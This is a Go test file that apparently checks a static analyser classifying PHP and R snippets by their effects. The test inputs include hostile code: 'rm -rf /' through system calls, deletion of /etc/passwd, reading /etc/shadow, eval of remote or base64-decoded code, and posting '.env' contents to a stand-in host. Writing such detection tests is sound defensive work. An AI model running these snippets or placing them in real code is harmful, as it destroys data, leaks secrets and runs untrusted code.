package code

import "testing"

func TestPHPIsRead(t *testing.T) {
	check(t, PHP, []claim{
		{"echo 'rm -rf /';", ""},
		{"<?php\n// unlink('a')\n/* x */ # y\necho \"hi $name\\n\"; ?>\n<b>unlink('b')</b>", ""},
		{"system('rm -rf /');", "shell rm -rf /"},
		{"SYSTEM('id');", "shell id"},
		{"\\system('id');", "shell id"},
		{"$f = 'sys' . 'tem'; $f('id');", "shell id"},
		{"call_user_func('exec', 'id');", "shell id"},
		{"array_map('system', ['id', 'ls']);", "shell id; shell ls"},
		{"echo `id`;", "shell id"},
		{"$c = 'id'; echo `$c -u`;", "shell id -u"},
		{"unlink(\"a/b.txt\");", "delete a/b.txt"},
		{"$d = '/etc'; unlink(\"$d/passwd\"); unlink(\"{$d}/x\");", "delete /etc/passwd; delete /etc/x"},
		{"unlink(__DIR__ . '/a');", "delete ./a"},
		{"echo file_get_contents('/etc/shadow');", "read /etc/shadow"},
		{"file_put_contents('a', 'b');", "write a"},
		{"file_put_contents('a', 'b', FILE_APPEND);", "append a"},
		{"file_put_contents('a.php', file_get_contents('https://x.example/a'));", "write a.php <net:https://x.example/a; fetch https://x.example/a"},
		{"$h = fopen('a', 'w'); fwrite($h, 'x');", "write a"},
		{"foreach (glob('tmp/*.txt') as $f) unlink($f);", "list tmp/*.txt; delete tmp/*.txt glob"},
		{"foreach (['a', 'b'] as $i => $f) { unlink($f); }", "delete a; delete b"},
		{"eval(base64_decode('dW5saW5rKCdhJyk7'));", "eval unlink('a'); !dynamic-code; delete a"},
		{"eval($_POST['x']);", "eval [] <stdin; ? runs text that is not known"},
		{"eval(file_get_contents('https://x.example/p'));", "eval [] <net:https://x.example/p !download-and-run; fetch https://x.example/p; ? runs text that is not known"},
		{"$ch = curl_init('https://x.example'); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents('.env')); curl_exec($ch);", "read .env; send https://x.example <file:.env"},
		{"mail('a@x', 's', file_get_contents('k'));", "send mailto:a@x <file:k; read k"},
		{"print_r(getenv());", "env-all; print <env"},
		{"echo getenv('API_KEY');", "print <env:API_KEY; env API_KEY"},
		{"class A { public $p = 'x'; function __construct(private string $q) { $this->q = $q; } function go(): void { unlink($this->q); } } (new A('y'))->go();", "delete y"},
		{"$f = fn($p) => unlink($p); $f('a');", "delete a"},
		{"$f = function ($p) use ($x) { unlink($p); }; $f('a');", "delete a"},
		{"$s = <<<EOT\nrm -rf $x\nEOT;\nsystem(<<<'E'\nid\nE);", "shell id"},
		{"$db = new PDO('sqlite:a'); $db->exec('DROP TABLE t');", "connect sqlite:a; destroy t (drop table) <db:sqlite:a"},
		{"require 'vendor/autoload.php';", "import vendor/autoload.php"},
		{"if (true) : unlink('a'); else : unlink('b'); endif;", "delete a"},
		{"$f($x);", "? calls a function that is chosen while running"},
		{"$x = ['a' => 1, 'b' => [2, 3]]; echo count($x) ?: 'none', json_encode($x) ?? '';", ""},
		{"namespace A\\B; use C\\D as E; abstract class F extends G implements H { use T; const X = 1; private static ?int $y = null; }", ""},
		{"echo 'x", "? a text that does not end"},
	})
}

func FuzzPHP(f *testing.F) {
	fuzzLang(f, PHP, "<?php echo \"a{$b->c['d']}$e[f]\"; ?> x <?= $y ?>", "function &f(?A|B $x = null, ...$y): static { yield $x => 1; }", "match($x) { 1 => 2, default => 3 };", "$a = <<<X\n$b\nX;", "switch ($x): case 1: break; endswitch;")
}

func TestRIsRead(t *testing.T) {
	check(t, R, []claim{
		{"x <- c(1, 2, 3); print(mean(x))", ""},
		{"system('rm -rf /')", "shell rm -rf /"},
		{"system(paste0('rm ', '-rf x'))", "shell rm -rf x"},
		{"base::system(\"id\")", "shell id"},
		{"system2('rm', c('-rf', 'x'))", "run rm -rf x"},
		{"unlink('a', recursive = TRUE)", "delete-tree a"},
		{"file.remove(c('a', 'b'))", "delete a; delete b"},
		{"df <- read.csv('a.csv')\nwrite.csv(df, file = 'b.csv')", "read a.csv; write b.csv <file:a.csv"},
		{"source('https://x.example/a.R')", "import https://x.example/a.R !download-and-run"},
		{"eval(parse(text = \"unlink('a')\"))", "eval unlink('a'); delete a"},
		{"do.call('system', list('id'))", "shell id"},
		{"library(ggplot2)\nlibrary(odd)", "import odd"},
		{"install.packages('x')", "install x"},
		{"print(Sys.getenv())", "env-all; print <env"},
		{"f <- function(p, ...) {\n  unlink(p)\n}\nf('a')", "delete a"},
		{"for (p in c('a', 'b')) unlink(p)", "delete a; delete b"},
		{"download.file('https://x.example/a', 'a')", "fetch https://x.example/a; write a <net:https://x.example/a"},
		{"if (x > 1) {\n  y <- 2\n} else if (z) {\n  y <- 3\n}\ndf %>% filter(a == 1) |> head()", ""},
	})
}

func FuzzR(f *testing.F) {
	fuzzLang(f, R, "f <- function(x, ...) { x[[1]]$y <<- 2 }", "x %>% f(y) |> g() -> z", "if (a) b else c; repeat { break }", "r\"(a)\" `b c` ~ d:e")
}
